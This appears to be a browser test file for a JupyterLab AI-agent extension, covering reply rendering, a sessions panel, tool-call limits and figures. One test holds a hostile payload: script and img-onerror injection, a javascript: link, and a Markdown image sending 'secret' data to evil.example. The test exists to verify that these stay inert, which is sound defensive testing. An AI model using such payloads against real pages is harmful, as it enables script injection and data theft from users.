"""The notebook experience in a real JupyterLab, as a new user sees it (headless Chromium).

One notebook runs turns against the scripted model server and opens the sessions panel;
a second notebook's kernel holds one of the sessions. The test then reads the rendered
DOM: dollar amounts show as typed (no MathJax) while the table, list and code block of
the reply render; a slow first token shows a status line that goes when the reply
starts; the panel lists the sessions newest first, shows the held session in use with
Resume disabled, and Details, Resume, Archive and Delete work by clicking. Saving the
notebook stores widget state that holds no session the panel does not show. Screenshots
of both themes and a narrow window are saved under ``tests/browser/artifacts/``. A third
notebook gets a hostile reply and summary: nothing in them runs or is fetched.
A fourth runs a slow tool call that draws a figure: the finished turn shows the image
and no status text, and the panel's Details view renders the figure without a widget error.
In a fifth, ``%agent_cell`` puts the agent's code into a new cell that runs again.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.browser.conftest import ARTIFACTS, Lab

pytestmark = pytest.mark.slow

REPLY = ("The two plans cost $5 and $10 a month; the second is $5 more.\n\n"
         "| plan | price |\n|---|---|\n| basic | $5 |\n| pro | $10 |\n\n"
         "- first: $1 off\n- second: $2 off\n\n"
         "```python\nprint('$5', '$10')\n```")

MAIN = [
    "%load_ext jupyter_agent",
    "from jupyter_agent.testing import ScriptedModelServer\n"
    f"server = ScriptedModelServer([{{'text': 'noted'}}, {{'text': {REPLY!r}}},\n"
    "                               {'text': 'Slow but here.', 'delay': 6}]).start()\n"
    "%config AgentMagics.base_url = server.base_url",
    "%agent_new --title Held\n"
    "from pathlib import Path\n"
    "_ = Path('held_id.txt').write_text(get_ipython().magics_manager"
    ".registry['AgentMagics'].controller.active_session_id)",
    "%agent_new --title Second\n%agent remember this",
    "%agent_new --title Dollars",
    "%%agent\nWhat do the plans cost?",
    "%agent take your time",
    "%agent_sessions",
    "print('ALL' + ' DONE')",
]

OTHER = [
    "%load_ext jupyter_agent",
    "from jupyter_agent.testing import ScriptedModelServer\n"
    "from pathlib import Path\n"
    "server = ScriptedModelServer([]).start()\n"
    "held = Path('held_id.txt').read_text()",
    "%agent_resume {held} --base-url {server.base_url}",
    "print('HELD' + ' HERE')",
]


ENDINGS = [
    "%load_ext jupyter_agent",
    "import tempfile\n"
    "from jupyter_agent.testing import ScriptedModelServer\n"
    "memory = tempfile.mkdtemp()\n"
    "%config AgentMagics.memory_dir = memory\n"
    "run = {'name': 'run_python', 'arguments': {'code': \"print('$3 and $4')\"}}\n"
    "code = {'tool_calls': [run]}\n"
    "server = ScriptedModelServer([code, {'text': 'It was refused.'}, code]).start()",
    "%agent_new --base-url {server.base_url} --approve deny --title Denied\n"
    "%agent run it",
    "%agent_new --base-url {server.base_url} --approve auto --max-iterations 1 --title Limited",
    "%agent run it again",
]


def shot(page: Any, name: str) -> Path:
    """Save a screenshot of the page (git-ignored artifacts folder)."""
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    return path


def start_all(page: Any, lab: Lab, name: str, *, fresh: bool = False) -> None:
    """Open a notebook, wait for its kernel, and run all its cells (``fresh``: in a reset
    workspace, without the notebooks an earlier test left open)."""
    page.goto(lab.open_url(name) + ("&reset" if fresh else ""))
    page.wait_for_selector(".jp-Notebook .jp-Cell")
    page.get_by_text(re.compile(r"Python 3 \(ipykernel\) \| Idle")).wait_for(timeout=120_000)
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()


def row(page: Any, title: str) -> Any:
    """The panel row whose name is ``title``."""
    return page.locator(".widget-hbox", has=page.locator(f"b:text-is('{title}')")).last


def panel_names(page: Any, expected: list[str]) -> list[str]:
    """The session names the panel shows, top to bottom, once they are ``expected`` (the
    widgets update a moment after the message that says what happened), else at 15 s."""
    names: list[str] = []
    for _ in range(60):
        names = [n.strip() for n in page.locator(".widget-html-content b").all_inner_texts()
                 if n.strip() in ("Held", "Second", "Dollars")]
        if names == expected:
            break
        page.wait_for_timeout(250)
    return names


def test_a_notebook_session_in_jupyterlab(lab: Lab, page: Any) -> None:
    lab.write_notebook("main.ipynb", MAIN)
    lab.write_notebook("other.ipynb", OTHER)
    lab.write_notebook("endings.ipynb", ENDINGS)
    start_all(page, lab, "main.ipynb")

    # a slow first token: a live status line, gone when the reply starts
    status = page.get_by_text(re.compile("waiting for the model — \\d+ s"))
    status.wait_for(timeout=120_000)
    page.locator(".jp-CodeCell", has_text="take your time").scroll_into_view_if_needed()
    shot(page, "status-line")
    outputs = page.locator(".jp-OutputArea-output")
    outputs.filter(has_text="Slow but here.").wait_for()
    assert outputs.filter(has_text="waiting for the model").count() == 0
    page.wait_for_selector("text=ALL DONE", timeout=120_000)

    # the reply: dollars as typed, no maths; table, list and code block rendered
    reply = page.locator(".jp-RenderedMarkdown", has_text="The two plans cost").first
    reply.scroll_into_view_if_needed()
    text = reply.inner_text()
    assert "The two plans cost $5 and $10 a month; the second is $5 more." in text
    assert reply.locator("mjx-container").count() == 0
    assert reply.locator("table td").all_inner_texts() == ["basic", "$5", "pro", "$10"]
    assert reply.locator("li").all_inner_texts() == ["first: $1 off", "second: $2 off"]
    assert "print('$5', '$10')" in reply.locator("pre").inner_text()
    footer = page.locator(".jp-RenderedMarkdown em", has_text="── ").first
    assert re.search(r"· \$0\.\d{4} ·", footer.inner_text())  # the cost, as typed
    assert page.locator(".jp-OutputArea mjx-container").count() == 0
    shot(page, "turns-light")

    # the panel: newest first
    page.get_by_text("active in this kernel").wait_for()
    assert panel_names(page, ["Dollars", "Second", "Held"]) == ["Dollars", "Second", "Held"]

    # a second kernel takes the Held session
    other = page.context.new_page()
    start_all(other, lab, "other.ipynb")
    other.wait_for_selector("text=HELD HERE", timeout=120_000)
    other.close()
    page.bring_to_front()
    page.get_by_role("button", name="Refresh", exact=True).click()
    held = row(page, "Held")
    held.get_by_text("In use by").wait_for()
    assert held.get_by_role("button", name="Resume").is_disabled()
    assert "in use elsewhere" in held.inner_text()
    held.scroll_into_view_if_needed()
    shot(page, "panel-in-use")

    # Details, Resume, Archive, Delete by clicking; the details render the summary's
    # Markdown (here the fallback excerpt, with the reply's table) without maths
    row(page, "Dollars").get_by_role("button", name="Details").click()
    details = page.locator(".widget-vbox", has_text="Details — Dollars").last
    details.locator("table").first.wait_for()
    assert "$5" in details.locator("table").first.inner_text()
    assert details.locator("mjx-container").count() == 0 and "**" not in details.inner_text()
    row(page, "Second").get_by_role("button", name="Details").click()
    page.get_by_text("Details — Second").wait_for()
    page.get_by_text("Details — Second").scroll_into_view_if_needed()
    shot(page, "panel-details")
    assert "Last messages" in page.locator(".widget-vbox", has_text="Details — Second").last\
        .inner_text()
    row(page, "Second").get_by_role("button", name="Resume").click()
    page.get_by_text(re.compile("Resumed ‘Second’")).wait_for()
    # the row is redrawn by its own widget message, which may come after the notice's
    row(page, "Second").get_by_text("active in this kernel").wait_for()
    row(page, "Dollars").get_by_role("button", name="Archive").click()
    page.get_by_text(re.compile("Archived session")).wait_for()
    assert panel_names(page, ["Second", "Held"]) == ["Second", "Held"]
    row(page, "Second").get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Delete for good").click()
    page.get_by_text(re.compile("Deleted session .* it was this kernel's active session"))\
        .wait_for()
    assert panel_names(page, ["Held"]) == ["Held"]
    shot(page, "panel-after-clicks")

    # saved widget state holds only what the panel shows
    page.keyboard.press("Control+s")
    state = ""
    for _ in range(60):  # the save is asynchronous
        saved = json.loads((lab.root / "main.ipynb").read_text(encoding="utf-8"))
        state = json.dumps(saved["metadata"].get("widgets", {}))
        if "Deleted session" in state:  # this save, not an earlier autosave
            break
        page.wait_for_timeout(250)
    assert "Held" in state  # shown, so it may be saved
    assert "Dollars" not in state and "remember this" not in state
    # "Second" only in the message that is shown: "Deleted session ‘Second’ (ID); ..."
    assert state.count("Second") == state.count("Deleted session \\u2018Second\\u2019") == 1

    # a refused call is shown once; a limit ends a turn with one message, the right one
    endings = page.context.new_page()
    start_all(endings, lab, "endings.ipynb")
    error = endings.locator(".jp-RenderedText[data-mime-type='application/vnd.jupyter.stderr']",
                            has_text="limit reached")
    error.wait_for(timeout=120_000)
    denied = endings.locator(".jp-CodeCell", has_text="--approve deny")
    denied.get_by_text("It was refused.").wait_for()
    assert denied.inner_text().count("refused: running code is disabled") == 1
    limited = endings.locator(".jp-CodeCell", has_text="run it again")
    text = limited.inner_text()
    assert "$3 and $4" in text and "Stopped" not in text and text.count("limit reached") == 1
    assert "max_iterations = 1 model call per prompt" in text and "── " in text  # the footer
    assert "Error" not in text  # no exception class names
    assert limited.locator("mjx-container").count() == 0
    limited.scroll_into_view_if_needed()
    shot(endings, "endings")
    endings.close()

    # a narrow window, then the dark theme
    page.set_viewport_size({"width": 640, "height": 900})
    page.wait_for_timeout(500)
    shot(page, "narrow-light")
    page.set_viewport_size({"width": 1280, "height": 900})
    page.get_by_role("menuitem", name="Settings", exact=True).click()
    page.locator(".lm-Menu-itemLabel", has_text="Theme").first.hover()
    page.locator(".lm-Menu-itemLabel", has_text="JupyterLab Dark").first.click()
    page.wait_for_function("document.body.dataset.jpThemeLight === 'false'")
    page.wait_for_timeout(1000)
    shot(page, "dark")
    page.set_viewport_size({"width": 640, "height": 900})
    page.wait_for_timeout(500)
    shot(page, "narrow-dark")


#: A host the page must never contact (what a remote Markdown image would leak to).
EVIL = "evil.example"
PAYLOAD = ("Look: <script>window.pwned = 'script'</script> "
           "<img src=x onerror=\"window.pwned = 'img'\"> "
           "<style>.jp-Notebook { display: none }</style> "
           f"![chart](https://{EVIL}/leak.png?d=secret) [run](javascript:window.pwned='link') "
           "and \\(x\\) as typed.")

HOSTILE = [
    "%load_ext jupyter_agent",
    "from jupyter_agent.testing import ScriptedModelServer\n"
    f"payload = {PAYLOAD!r}\n"
    "server = ScriptedModelServer([{'text': payload}]).start()\n"
    "%config AgentMagics.base_url = server.base_url",
    "%agent_new --title Hostile\n%agent show me",
    f"%agent_summary {PAYLOAD}",
    "hostile = get_ipython().magics_manager.registry['AgentMagics'].controller"
    ".active_session_id",
    "%agent_new --title Other",
    "%agent_resume {hostile}",
    "%agent_sessions",
    "print('HOSTILE' + ' DONE')",
]


def test_text_from_the_model_and_from_files_stays_inert(lab: Lab, page: Any) -> None:
    """A scripted reply and a stored summary carrying <script>, <img onerror>, <style>, a
    javascript: link and a remote Markdown image: shown as text (the image as a link),
    nothing runs, nothing is fetched, \\(x\\) shows as typed."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    lab.write_notebook("hostile.ipynb", HOSTILE)
    start_all(page, lab, "hostile.ipynb", fresh=True)
    page.wait_for_selector("text=HOSTILE DONE", state="attached", timeout=120_000)

    def leaked() -> list[str]:  # the remote image, or the <img src=x> of the payload
        return [url for url in requests if EVIL in url or url.split("?")[0].endswith("/x")]

    assert page.evaluate("() => window.pwned") is None and leaked() == []

    reply = page.locator(".jp-RenderedMarkdown", has_text="Look:").first
    text = reply.inner_text()
    assert "<script>window.pwned = 'script'</script>" in text  # shown as typed
    assert "<img src=x onerror=\"window.pwned = 'img'\">" in text
    assert "\\(x\\) as typed." in text and reply.locator("mjx-container").count() == 0
    assert reply.locator("img, script, style").count() == 0
    image = reply.get_by_role("link", name="image: chart")
    assert image.get_attribute("href") == f"https://{EVIL}/leak.png?d=secret"  # a link only
    assert reply.locator("a[href^='javascript']").count() == 0

    recap = page.locator(".jp-RenderedMarkdown", has_text="Resumed: Hostile").first
    assert "<img src=x onerror=" in recap.inner_text()
    assert recap.locator("img, script, style").count() == 0
    assert recap.get_by_role("link", name="image: chart").count() == 1

    row(page, "Hostile").get_by_role("button", name="Details").click()
    details = page.locator(".widget-vbox", has_text="Details — Hostile").last
    details.get_by_text("Look: <script>").first.wait_for()
    assert details.locator("img, script, mjx-container").count() == 0
    assert "\\(x\\) as typed." in details.inner_text()
    assert details.locator(f"a[href^='https://{EVIL}']").first.inner_text() == "image: chart"
    details.scroll_into_view_if_needed()
    shot(page, "hostile-details")

    page.wait_for_timeout(1000)  # anything the payload started has had its chance
    assert page.evaluate("() => window.pwned") is None
    assert page.locator(".jp-Notebook").first.is_visible()  # the payload's style: not applied
    assert leaked() == []


HANDED = [
    "%load_ext jupyter_agent",
    "import tempfile\n"
    "from jupyter_agent.testing import ScriptedModelServer\n"
    "%config AgentMagics.memory_dir = tempfile.mkdtemp()\n"
    "run = {'name': 'run_python', 'arguments': {'code': 'total = sum(range(10))\\ntotal'}}\n"
    "server = ScriptedModelServer([{'tool_calls': [run]}, {'text': 'It is 45.'}]).start()",
    "%agent_new --base-url {server.base_url} --approve auto --title Handed\n"
    "%agent add the numbers",
    "%agent_cell",
]


def test_agent_cell_puts_the_code_in_a_new_cell_that_reruns(lab: Lab, page: Any) -> None:
    """%agent_cell in JupyterLab: a new cell below holds the agent's code, tagged with the
    session and turn; the saved notebook keeps it, and it runs."""
    lab.write_notebook("handed.ipynb", HANDED)
    start_all(page, lab, "handed.ipynb", fresh=True)
    page.wait_for_selector("text=is in a new cell below", timeout=120_000)
    cells = page.locator(".jp-Notebook .jp-Cell")
    cells.nth(len(HANDED)).wait_for()
    new = cells.nth(len(HANDED)).locator(".jp-InputArea-editor").inner_text()
    assert re.match(r"# from jupyter-agent session \w+, turn 1, call 1\n", new), new
    assert "total = sum(range(10))" in new
    cells.nth(len(HANDED)).click()
    page.keyboard.press("Shift+Enter")  # the user runs the handed-out cell
    result = cells.nth(len(HANDED)).locator(".jp-OutputArea-output")
    result.wait_for()
    assert result.inner_text().strip() == "45"
    page.keyboard.press("Control+s")
    sources: list[str] = []
    for _ in range(60):  # the save is asynchronous
        saved = json.loads((lab.root / "handed.ipynb").read_text(encoding="utf-8"))
        sources = ["".join(c["source"]) for c in saved["cells"]]
        if len(sources) > len(HANDED) and "total" in sources[len(HANDED)]:
            break
        page.wait_for_timeout(250)
    assert sources[len(HANDED)].startswith("# from jupyter-agent session ")
    assert sources[len(HANDED)].endswith("total = sum(range(10))\ntotal")


#: Code the scripted model asks to run: longer than the 3 s before a status line shows,
#: then a figure drawn with the inline backend, as a notebook user would.
SLOW_PLOT = ("import time\nimport matplotlib.pyplot as plt\ntime.sleep(4.5)\n"
             "plt.plot([1, 3, 2, 4])\nplt.title('slow plot')\nplt.show()")

FIGURE = [
    "%load_ext jupyter_agent",
    "import tempfile\n"
    "from jupyter_agent.testing import ScriptedModelServer\n"
    "memory = tempfile.mkdtemp()\n"
    "%config AgentMagics.memory_dir = memory\n"
    "%config AgentMagics.approve = \"auto\"\n"
    f"plot = {{'name': 'run_python', 'arguments': {{'code': {SLOW_PLOT!r}}}}}\n"
    "server = ScriptedModelServer([{'tool_calls': [plot]}, {'text': 'Here is the plot.'}])"
    ".start()\n"
    "%config AgentMagics.base_url = server.base_url",
    "%agent_new --title Figure\n%agent draw the plot",
    "%agent_sessions",
    "print('FIGURE' + ' DONE')",
]


def test_a_slow_figure_turn_and_its_details(lab: Lab, page: Any) -> None:
    """A tool call that runs > 3 s and draws a figure: the live status line shows while it
    runs and is gone from the finished turn, which shows the figure as an image with no
    model-facing "[figure 1: …]" line and no lone "→" under it; the panel's Details view
    renders the figure as an image, with no widget error anywhere on the page."""
    lab.write_notebook("figure.ipynb", FIGURE)
    start_all(page, lab, "figure.ipynb", fresh=True)
    page.get_by_text(re.compile("run_python running — \\d+ s")).wait_for(timeout=120_000)
    page.wait_for_selector("text=FIGURE DONE", timeout=120_000)

    turn = page.locator(".jp-CodeCell", has_text="%agent draw the plot")
    turn.get_by_text("Here is the plot.").wait_for()
    figure = turn.locator(".jp-OutputArea-output img").first
    figure.wait_for()
    assert figure.evaluate("img => img.complete && img.naturalWidth") > 0
    turn_text = turn.locator(".jp-OutputArea").inner_text()
    assert "[figure 1" not in turn_text and "shown to the user" not in turn_text
    assert "→" not in [line.strip() for line in turn_text.splitlines()]
    outputs = "\n".join(page.locator(".jp-Notebook .jp-OutputArea").all_inner_texts())
    assert "running —" not in outputs and "waiting for the model" not in outputs
    figure.scroll_into_view_if_needed()
    shot(page, "figure-turn")

    row(page, "Figure").get_by_role("button", name="Details").click()
    details = page.locator(".widget-vbox", has_text="Details — Figure").last
    details.wait_for()
    image = details.locator("img[src^='data:'], img[src^='blob:']").first
    error = page.get_by_text(re.compile("Click to show javascript error|Failed to create view"))
    image.or_(error).first.wait_for()  # whichever the widget view shows
    assert error.count() == 0, "a widget view failed: " + error.first.inner_text()
    page.wait_for_function("img => img.complete && img.naturalWidth > 0",
                           arg=image.element_handle())
    page.wait_for_timeout(500)  # any other failing view has shown its error
    body = page.locator("body").inner_text()
    assert "Click to show javascript error" not in body and "Failed to create view" not in body
    details.scroll_into_view_if_needed()
    shot(page, "details-figure")
